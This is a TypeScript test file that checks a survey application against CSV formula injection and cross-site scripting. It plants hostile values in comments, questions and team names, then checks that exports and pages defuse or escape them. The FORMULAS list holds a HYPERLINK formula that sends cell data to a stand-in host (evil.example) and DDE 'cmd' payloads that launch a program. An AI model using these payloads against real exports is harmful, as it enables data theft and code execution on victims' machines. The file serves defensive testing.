// Spreadsheet formulas in exports, and answers rendered back: text people
// typed (comments, custom questions) and names imported from the catalog
// (teams) reach CSV files and results pages. A cell may not start a formula;
// a page may show a script only escaped.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { engines } from '../engines.ts';
import type { OpenApiDocument } from './fuzz-api.ts';
import { buildWorld, type World } from './world.ts';
import { escapedMarkers, payload, RAW } from './xss.ts';

/** Cells of RFC 4180 CSV text (quoted fields, doubled quotes, CRLF or LF rows). */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Cells a spreadsheet would run: a formula start that is not a plain negative number. */
const formula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('csv reading (for the export tests)', () => {
  it('reads quoted fields, doubled quotes and line ends', () => {
    expect(csvCells('a,"b,c","d""e"\r\n"x\ny",,z\n')).toEqual([
      ['a', 'b,c', 'd"e'],
      ['x\ny', '', 'z'],
    ]);
    expect(['=1', '+1', '-1', '-1.5', '@a', '\t=1', "'=1", 'a=1'].map(formula)).toEqual([
      true,
      true,
      false,
      false,
      true,
      true,
      false,
      false,
    ]);
  });
});

describe.each(engines)('abuse: formulas and scripts in what people typed [%s]', (engine) => {
  let world: World;
  let closed: string[];
  beforeAll(async () => {
    world = await buildWorld(engine);
    const { db } = world.db;
    closed = (
      await db.selectFrom('surveys').select('id').where('state', '=', 'closed').execute()
    ).map((s) => s.id);
    // Formulas and scripts where people type and where the catalog names things.
    const comments = await db.selectFrom('survey_comments').select('id').orderBy('id').execute();
    for (const [i, c] of comments.entries()) {
      const body = i % 2 ? FORMULAS[i % FORMULAS.length]! : payload(20_000 + i)!;
      await db.updateTable('survey_comments').set({ body }).where('id', '=', c.id).execute();
    }
    const questions = await db.selectFrom('survey_questions').select('id').orderBy('id').execute();
    for (const [i, q] of questions.entries()) {
      const prompt = i % 2 ? FORMULAS[i % FORMULAS.length]! : payload(30_000 + i)!;
      await db.updateTable('survey_questions').set({ prompt }).where('id', '=', q.id).execute();
    }
    const teams = await db.selectFrom('teams').select('id').orderBy('id').execute();
    for (const [i, t] of teams.entries()) {
      const name = i % 2 ? FORMULAS[i % FORMULAS.length]! : payload(40_000 + i, 200)!;
      await db.updateTable('teams').set({ name }).where('id', '=', t.id).execute();
    }
  }, 300_000);
  afterAll(async () => {
    await world?.db.close();
  });

  it('starts no cell of any CSV export with = + - @ tab or a carriage return', async () => {
    const doc = (await (await world.app.request('/api/v1/openapi.json')).json()) as OpenApiDocument;
    // Every route that answers CSV, from the document: today the survey results export.
    const csvRoutes = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops)
        .filter(([, op]) => JSON.stringify(op.responses ?? {}).includes('"text/csv"'))
        .map(([method]) => ({ method: method.toUpperCase(), path: `/api/v1${path}` })),
    );
    expect(csvRoutes).toEqual([{ method: 'GET', path: '/api/v1/surveys/{id}/export.csv' }]);
    expect(closed.length).toBeGreaterThan(0);
    const headers = await world.credentials('admin', { api: true, write: false });
    const bad: string[] = [];
    let cells = 0;
    let defused = 0;
    for (const id of closed) {
      for (const by of ['team', 'tenure', 'level']) {
        const res = await world.app.request(`/api/v1/surveys/${id}/export.csv?by=${by}`, {
          headers,
        });
        expect(res.status).toBe(200);
        expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        for (const row of csvCells(await res.text())) {
          for (const cell of row) {
            cells++;
            if (formula(cell)) bad.push(`${id} by ${by}: ${JSON.stringify(cell)}`);
            if (FORMULAS.some((f) => cell === `'${f}`)) defused++;
          }
        }
      }
    }
    console.info(
      `csv [${engine}]: ${cells} cells in ${closed.length * 3} exports, ${defused} planted formulas defused, ${bad.length} live`,
    );
    expect(bad).toEqual([]);
    // The formulas really were in the exports (team names at least), defused with a quote.
    expect(defused).toBeGreaterThan(0);
  });

  it('shows typed answers, questions and team names escaped on results and team pages', async () => {
    const headers = await world.credentials('admin', { api: false, write: false });
    const urls = [
      '/teams',
      ...closed.flatMap((id) =>
        ['team', 'tenure', 'level'].map((by) => `/surveys/${id}/results?by=${by}`),
      ),
      ...closed.map((id) => `/surveys/${id}`),
    ];
    const slugs = await world.db.db.selectFrom('teams').select('slug').execute();
    urls.push(...slugs.map((t) => `/teams/${t.slug}`));
    const seen = new Set<number>();
    const raw: string[] = [];
    for (const url of urls) {
      const res = await world.app.request(url, { headers });
      const html = await res.text();
      for (const n of escapedMarkers(html)) seen.add(n);
      const hole = RAW.exec(html);
      if (hole) raw.push(`${url}: …${html.slice(Math.max(0, hole.index - 60), hole.index + 60)}…`);
    }
    const kinds = (from: number) => [...seen].filter((n) => n >= from && n < from + 10_000).length;
    console.info(
      `rendered back [${engine}]: ${urls.length} pages; escaped comments ${kinds(20_000)}, questions ${kinds(30_000)}, team names ${kinds(40_000)}; ${raw.length} raw`,
    );
    expect(raw).toEqual([]);
    expect(kinds(20_000)).toBeGreaterThan(0);
    expect(kinds(40_000)).toBeGreaterThan(0);
  });
});
